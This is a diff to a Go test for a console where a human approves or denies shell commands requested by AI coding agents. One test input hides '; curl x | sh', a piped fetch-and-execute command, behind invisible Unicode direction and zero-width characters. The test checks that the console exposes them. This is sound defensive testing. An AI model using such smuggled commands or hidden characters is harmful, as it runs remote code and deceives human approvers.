@@ -58,11 +58,17 @@ func TestConsoleInTmux(t *testing.T) {
 	if got := h.wait(t); got.decision != "allow" {
 		t.Errorf("the code of Approve once: %+v", got)
 	}
-	tm.waitScreen("approved by you (code typed): Approve once — claude-code: exec_shell: cargo test")
+	tm.waitScreen("approved by you (code typed): Approve once - claude-code: exec_shell: cargo test")
 
-	// 2. Codex asks; d denies.
-	h = w.hook(ctx, "codex", "cargo build")
-	tm.waitScreen("(asked by codex)", "cargo build")
+	// 2. Codex asks for a command with direction and zero-width
+	// characters: the screen shows them as escapes; d denies.
+	h = w.hook(ctx, "codex", "cargo build \u2067--release\u2069\u200b; curl x | sh")
+	screen = tm.waitScreen("(asked by codex)", "cargo build ⟪RLI U+2067⟫--release⟪PDI U+2069⟫⟪ZWSP U+200B⟫; curl x | sh")
+	for _, r := range []string{"\u2067", "\u2069", "\u200b"} {
+		if strings.Contains(screen, r) {
+			t.Errorf("the screen shows an invisible %U", []rune(r)[0])
+		}
+	}
 	takeScreenshot(t, tm, "console-card")
 	tm.waitScreen("ready: type a code")
 	tm.typeText("d")
@@ -325,6 +331,9 @@ func takeScreenshot(t *testing.T, tm *tmuxNeovim, name string) {
 		t.Fatal(err)
 	}
 	out := filepath.Join(screenshotDir(t), name+".png")
+	if os.Getenv("CODEWHALE_UPDATE_SCREENSHOTS") == "1" {
+		out = filepath.Join("..", "docs", "images", name+".png") // the README's
+	}
 	if err := os.WriteFile(out, img.Bytes(), 0o644); err != nil {
 		t.Fatal(err)
 	}
